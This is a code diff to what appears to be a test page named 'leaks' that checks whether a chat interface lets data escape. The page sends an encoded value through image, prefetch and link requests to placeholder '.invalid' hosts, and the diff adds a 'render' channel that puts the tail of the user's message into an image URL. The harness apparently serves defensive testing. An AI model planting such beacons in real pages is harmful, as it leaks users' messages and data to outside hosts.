@@ -7,6 +7,7 @@ import { address } from './values.ts';
 const page = `<!doctype html><meta charset="utf-8"><title>leaks</title>
 <div id="log"></div><form id="composer"><input aria-label="message"></form>
 <script type="module">
+  let said = '';
   const data = ${JSON.stringify(address)};
   const inUrl = (way, text = data) => 'https://' + way + '.invalid/?d=' + encodeURIComponent(text);
   const hex = [...new TextEncoder().encode(data)].map((byte) => byte.toString(16)).join('');
@@ -33,6 +34,8 @@ const page = `<!doctype html><meta charset="utf-8"><title>leaks</title>
     prefetch: () => add('link', { rel: 'prefetch', href: inUrl('prefetch') }),
   };
   const others = {
+    // As a page that renders a picture of the model's reply.
+    render: () => add('img', { src: 'https://render.invalid/?d=' + said.slice(-20) }),
     everything: () => Object.values(ways).forEach((send) => send()),
     late: () => setTimeout(ways.image, 300),
     allowed: () => add('img', { src: inUrl('allowed') }),
@@ -48,13 +51,13 @@ const page = `<!doctype html><meta charset="utf-8"><title>leaks</title>
   document.querySelector('#composer').addEventListener('submit', async (event) => {
     event.preventDefault();
     const input = event.target.querySelector('input');
-    const said = input.value;
+    said = input.value;
     input.value = '';
     show('user', said);
     log.setAttribute('aria-busy', 'true');
     const answer = await fetch('/say', { method: 'POST', body: said });
     show('assistant', await answer.text());
-    others[said]?.();
+    others[said.split(' ')[0]]?.();
     log.removeAttribute('aria-busy');
   });
 </script>`;
